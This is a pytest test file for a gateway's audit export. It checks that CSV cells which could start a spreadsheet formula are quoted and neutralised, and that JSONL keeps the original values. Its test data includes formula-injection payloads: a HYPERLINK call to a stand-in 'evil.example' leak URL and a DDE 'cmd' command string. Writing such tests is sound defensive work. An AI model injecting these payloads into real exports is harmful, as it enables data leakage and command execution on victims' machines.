"""CSV exports cannot carry a spreadsheet formula: client-chosen text (`user`, the model
asked for) that would start one is exported with a leading `'`, and every cell is quoted so a
separator inside a value never starts a new cell. JSONL keeps the values as they were."""

from __future__ import annotations

import contextlib
import csv
import io
import json
from collections.abc import Iterator

import openai
import pytest

from gateway.audit.csv_cells import csv_cell
from tests.support.gateway_proc import GatewayProcess

CONFIG = """
models:
  - name: demo
    deployments: [{model: demo/demo-1}]
"""

# (what the client sent as `user`, the cell a spreadsheet gets)
USERS = [
    ('=HYPERLINK("http://evil.example/?leak","click me")',
     '\'=HYPERLINK("http://evil.example/?leak","click me")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1", "'  =1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
    ("\ufe622+2", "'\ufe622+2"),  # small plus sign
    ("alice; =1+1, \"quoted\"", "alice; =1+1, \"quoted\""),  # one cell, not a formula
    ("alice", "alice"),
    ("user-1=x", "user-1=x"),
]
MODELS = ["=cmd|' /C calc'!A0", "@evil", "demo"]


@pytest.fixture(scope="module")
def gw(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GatewayProcess]:
    g = GatewayProcess(tmp_path_factory.mktemp("csv-export"), CONFIG).start()
    key = g.create_key(name="csv-app")["key"]
    sdk = openai.OpenAI(api_key=key, base_url=g.base_url, max_retries=0)
    for user, _ in USERS:
        sdk.chat.completions.create(model="demo", user=user,
                                    messages=[{"role": "user", "content": "hi"}])
    for model in MODELS:
        with contextlib.suppress(openai.NotFoundError):
            sdk.chat.completions.create(model=model, user="model-probe",
                                        messages=[{"role": "user", "content": "hi"}])
    g.wait_for_audit("endpoint = '/v1/chat/completions'", count=len(USERS) + len(MODELS))
    yield g
    g.stop()


def export(gw: GatewayProcess, fmt: str) -> str:
    r = gw.admin("GET", f"/audit/export?format={fmt}")
    assert r.status_code == 200, r.text
    return r.text


def test_csv_cells_that_would_start_a_formula_get_a_leading_quote(gw: GatewayProcess) -> None:
    rows = list(csv.DictReader(io.StringIO(export(gw, "csv"), newline="")))
    users = {row["user"] for row in rows}
    for sent, cell in USERS:
        assert cell in users, (sent, sorted(users))
    asked = {row["model_requested"] for row in rows if row["user"] == "model-probe"}
    assert asked == {"'=cmd|' /C calc'!A0", "'@evil", "demo"}
    dangerous = (*"=+-@\t\r", "\uff1d", "\ufe62")
    for row in rows:
        for name, value in row.items():
            assert not value.lstrip(" ").startswith(dangerous), (name, value)


def test_every_csv_cell_is_quoted(gw: GatewayProcess) -> None:
    text = export(gw, "csv")
    records = list(csv.reader(io.StringIO(text, newline="")))
    assert len(records) > len(USERS) + len(MODELS)  # and the key creation event
    # Re-quoting each record cell by cell gives the file back: every cell was quoted.
    again = io.StringIO()
    csv.writer(again, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(records)
    assert again.getvalue() == text


def test_jsonl_export_keeps_the_values_as_sent(gw: GatewayProcess) -> None:
    events = [json.loads(line) for line in export(gw, "jsonl").splitlines()]
    assert {sent for sent, _ in USERS} <= {e["user"] for e in events}
    assert set(MODELS) <= {e["model_requested"] for e in events}


@pytest.mark.parametrize("value,cell", [
    (None, ""), (True, "true"), (12, 12), (-3.5, -3.5), ({"a": "=1"}, '{"a":"=1"}'),
    ("", ""), ("-", "'-"), ("\u00a0=1", "\u00a0=1"), ("\x00x", "'\x00x"), ("\n=1", "'\n=1"),
])
def test_csv_cell_values(value: object, cell: object) -> None:
    assert csv_cell(value) == cell
